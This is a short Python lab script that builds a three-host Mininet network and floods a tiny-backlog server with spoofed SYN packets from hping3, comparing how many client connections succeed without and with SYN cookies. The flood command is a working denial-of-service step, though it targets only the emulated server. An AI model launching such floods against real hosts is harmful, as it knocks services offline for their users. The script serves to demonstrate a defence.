"""A SYN flood by hping3 against a small backlog, without and with SYN cookies."""

import time

from mininet.net import Mininet
from mininet.topo import SingleSwitchTopo

SERVER = """
import socket
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("", 80))
s.listen(8)
while True:
    c, _ = s.accept()
    c.sendall(b"hello")
    c.close()
"""

net = Mininet(topo=SingleSwitchTopo(3))
net.start()
client, attacker, server = net.hosts
net.pingAll()
with open("server.py", "w") as f:
    f.write(SERVER)
server.cmd("ip route add default via %s" % attacker.IP())
server.cmd("sysctl -w net.ipv4.tcp_max_syn_backlog=8 net.core.somaxconn=8 net.ipv4.tcp_synack_retries=5")
for cookies in (0, 1):
    server.cmd("sysctl -w net.ipv4.tcp_syncookies=%d" % cookies)
    process = server.popen("python3 server.py")
    time.sleep(1)
    flood = attacker.popen("hping3 -q -S -p 80 --rand-source -i u10000 %s" % server.IP())
    time.sleep(5)
    answered = sum("hello" in client.cmd("nc -d -w 1 %s 80" % server.IP()) for _ in range(10))
    print("syncookies=%d: %d of 10 connections" % (cookies, answered))
    flood.terminate()
    process.terminate()
    process.wait()
    time.sleep(1)
net.stop()
